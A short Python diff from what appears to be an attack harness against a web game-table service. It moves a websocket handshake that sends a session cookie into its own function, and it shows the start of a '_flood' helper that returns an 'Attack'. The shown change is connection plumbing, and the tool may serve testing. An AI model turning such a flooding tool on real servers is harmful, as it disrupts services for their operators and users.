@@ -55,14 +55,21 @@ def frame(kind: int, data: bytes = b"") -> bytes:
 async def _table(target: Target) -> Streams:
     """A socket at the attacker's table."""
     reader, writer = await asyncio.open_connection(target.host, target.port)
+    try:
+        await _shake_hands(target, reader, writer)
+    except BaseException:
+        writer.transport.abort()
+        raise
+    writer.write(frame(TEXT, b'{"type":"hello","since":0}'))
+    return reader, writer
+
+
+async def _shake_hands(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
     lines = ["Upgrade: websocket", "Connection: Upgrade", f"Sec-WebSocket-Key: {KEY}", "Sec-WebSocket-Version: 13"]
     writer.write(target.head("GET", f"/api/tables/{target.table}/socket", *lines, f"Cookie: {target.cookie}") + END)
     head = await reader.readuntil(END)
     if b" 101 " not in head.split(b"\r\n")[0]:
-        writer.close()
         raise ConnectionError
-    writer.write(frame(TEXT, b'{"type":"hello","since":0}'))
-    return reader, writer
 
 
 def _flood(data: bytes, first: bytes = b"") -> Attack:
